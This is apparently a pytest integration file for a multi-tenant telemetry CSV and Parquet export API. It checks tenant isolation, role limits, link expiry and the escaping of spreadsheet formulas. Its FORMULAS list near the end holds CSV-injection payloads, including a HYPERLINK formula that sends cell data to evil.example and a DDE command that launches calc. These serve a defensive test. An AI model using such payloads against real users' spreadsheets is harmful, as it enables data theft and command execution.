"""Exports (shared/telemetry/exports.py, behind POST /api/exports): the caller's tenant's rows only, owners and
staff only, a read link that works until it expires, against real PostgreSQL and Azurite."""

from __future__ import annotations

import csv
import io
import urllib.error
import urllib.request
import uuid
from datetime import UTC, datetime, timedelta

import psycopg
import pyarrow.parquet as pq
import pytest

from shared.accounts.tokens import Principal
from shared.core.exceptions import DeviceNotFound, Forbidden, InvalidRange
from shared.core.settings import Settings, get_settings, settings_from
from shared.telemetry.archive import archive_container
from shared.telemetry.exports import create_export
from tests.support.api import call, new_tenant, new_user, users_of_each_role
from tests.support.devices import Device, run_mqtt_ingest
from tests.support.registry import DeviceCredential
from tests.support.waiting import wait_for

NOW = datetime.now(UTC).replace(microsecond=0)


@pytest.fixture
def export_settings(database, azurite_server) -> Settings:
    return settings_from(
        {
            "DATABASE_URL": database.app_dsn,
            "INGEST_DATABASE_URL": database.ingest_dsn,
            "STORAGE_CONNECTION_STRING": azurite_server.connection_string,
            "EXPORT_CONTAINER": f"exports-{uuid.uuid4().hex[:12]}",
        }
    )


def tenant_with_readings(app_pool, owner_dsn: str) -> tuple[dict, list[int]]:
    tenant = new_tenant(app_pool)
    with psycopg.connect(owner_dsn, autocommit=True) as owner:
        devices = [
            owner.execute(
                "INSERT INTO devices (tenant_id, name) VALUES (%s, %s) RETURNING id", (tenant["id"], f"m-{n}")
            ).fetchone()[0]
            for n in range(2)
        ]
        with owner.cursor().copy(
            "COPY telemetry (tenant_id, device_id, metric, ts, value, value_text) FROM STDIN"
        ) as cp:
            for device in devices:
                for i in range(50):
                    cp.write_row((tenant["id"], device, "temp", NOW - timedelta(minutes=i), i / 2, None))
                    cp.write_row((tenant["id"], device, "mode", NOW - timedelta(minutes=i), None, 'a,"b"'))
    return tenant, devices


def fetch(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=10) as reply:
            # the file is a tenant's data behind a bearer link: no cache may keep it
            assert reply.headers.get("Cache-Control") == "no-store"
            return reply.status, reply.read()
    except urllib.error.HTTPError as error:
        with error:  # it holds the response's socket; left to the garbage collector it warns in a later test
            return error.code, b""


def export(app_pool, settings, user, **kwargs):
    options = {
        "device_id": None,
        "start": NOW - timedelta(hours=1),
        "end": NOW + timedelta(seconds=1),
        "fmt": "parquet",
        "now": datetime.now(UTC),
    }
    options.update(kwargs)
    principal = Principal(user_id=user["id"], tenant_id=user["tenant"]["id"])
    container = archive_container(settings, settings.export_container)
    return create_export(app_pool, principal, settings, container, source="203.0.113.9", **options)


def test_export_holds_only_the_callers_tenant_and_range(app_pool, database, export_settings):
    # GIVEN two tenants with readings, and the first one's staff member
    tenant, devices = tenant_with_readings(app_pool, database.owner_dsn)
    tenant_with_readings(app_pool, database.owner_dsn)
    staff = new_user(app_pool, tenant, "staff")

    # WHEN they export the last 30 minutes as Parquet
    done = export(app_pool, export_settings, staff, start=NOW - timedelta(minutes=29, seconds=30))

    # THEN the link serves a file with exactly their rows in that range
    status, body = fetch(done.url)
    assert status == 200
    table = pq.read_table(io.BytesIO(body))
    assert set(table.column("tenant_id").to_pylist()) == {str(tenant["id"])}
    assert table.num_rows == done.rows == 2 * 2 * 30
    assert min(table.column("ts").to_pylist()) >= NOW - timedelta(minutes=29, seconds=30)
    assert done.blob.startswith(f"{tenant['id']}/")


def test_csv_export_of_one_device_for_people(app_pool, database, export_settings):
    tenant, devices = tenant_with_readings(app_pool, database.owner_dsn)
    owner = new_user(app_pool, tenant, "owner")
    done = export(app_pool, export_settings, owner, device_id=devices[1], fmt="csv")
    status, body = fetch(done.url)
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert status == 200 and len(rows) == done.rows == 100
    assert {r["device"] for r in rows} == {"m-1"}
    assert {r["value_text"] for r in rows if r["metric"] == "mode"} == {'a,"b"'}
    assert rows[0]["ts"].endswith("Z")


def test_export_link_works_until_it_expires(app_pool, database, export_settings):
    tenant, _ = tenant_with_readings(app_pool, database.owner_dsn)
    owner = new_user(app_pool, tenant, "owner")
    short = export_settings.model_copy(update={"export_link_ttl_s": 3})
    done = export(app_pool, short, owner)
    assert fetch(done.url)[0] == 200
    assert done.expires_at - datetime.now(UTC) <= timedelta(seconds=3)
    wait_for(lambda: fetch(done.url)[0] == 403, 15, "the export link to expire")


def test_export_refuses_viewers_foreign_devices_and_bad_ranges(app_pool, database, export_settings):
    tenant, _ = tenant_with_readings(app_pool, database.owner_dsn)
    _, foreign_devices = tenant_with_readings(app_pool, database.owner_dsn)
    viewer, owner = new_user(app_pool, tenant, "viewer"), new_user(app_pool, tenant, "owner")
    with pytest.raises(Forbidden):
        export(app_pool, export_settings, viewer)
    with pytest.raises(DeviceNotFound):
        export(app_pool, export_settings, owner, device_id=foreign_devices[0])
    with pytest.raises(InvalidRange):
        export(app_pool, export_settings, owner, start=NOW, end=NOW)
    with pytest.raises(InvalidRange):
        export(app_pool, export_settings, owner, start=NOW - timedelta(days=40), end=NOW)


# The probe's payloads (a formula, a DDE command, an @ function, arithmetic), and the starts the
# OWASP guidance adds: each must reach the spreadsheet as the text it is, never as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+2;=3+4",
]


def test_csv_export_of_formulas_a_device_published_opens_as_text(broker_api, monkeypatch, app_pool, azurite_server):
    # GIVEN a device created through the API, and an export container for the API
    monkeypatch.setenv("STORAGE_CONNECTION_STRING", azurite_server.connection_string)
    monkeypatch.setenv("EXPORT_CONTAINER", f"exports-{uuid.uuid4().hex[:12]}")
    get_settings.cache_clear()
    tenant = new_tenant(app_pool)
    token = users_of_each_role(app_pool, tenant)["staff"]["token"]
    reply = call("POST", "/api/devices", {"name": "press-01"}, token=token)
    assert reply.status == 201, reply.body
    credential = reply.json["credential"]
    # WHEN the device publishes the formulas as text readings (and a negative number) through the
    # real broker, the drain stores them, and staff export them as CSV through the API
    device = Device(
        broker_api,
        DeviceCredential(
            tenant["slug"], "press-01", credential["username"], credential["client_id"], credential["password"]
        ),
    )
    ts = int(NOW.timestamp() * 1000) - 60_000
    mids = [
        device.publish("telemetry", {"ts": ts + i, "metrics": {"note": text, "temp": -3.5 - i}})
        for i, text in enumerate(FORMULAS)
    ]
    assert set(device.wait_acked(mids).values()) == {0}
    device.close()
    run_mqtt_ingest()
    reply = call(
        "POST",
        "/api/exports",
        {
            "from": (NOW - timedelta(hours=1)).isoformat(),
            "to": (NOW + timedelta(minutes=5)).isoformat(),
            "format": "csv",
        },
        token=token,
    )
    assert reply.status == 201, reply.body
    status, body = fetch(reply.json["url"])
    assert status == 200

    # THEN every formula is text behind a leading quote, quoted as a cell of its own, and the numbers
    # are bare numbers (a negative one too)
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    notes = [row["value_text"] for row in rows if row["metric"] == "note"]
    assert notes == ["'" + text for text in FORMULAS]
    assert [row["value"] for row in rows if row["metric"] == "temp"] == [str(-3.5 - i) for i in range(len(FORMULAS))]
    text = body.decode()
    assert '"\'=1+2;=3+4"' in text and ",-3.5," in text
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key, cell in row.items() if key != "value"
    )
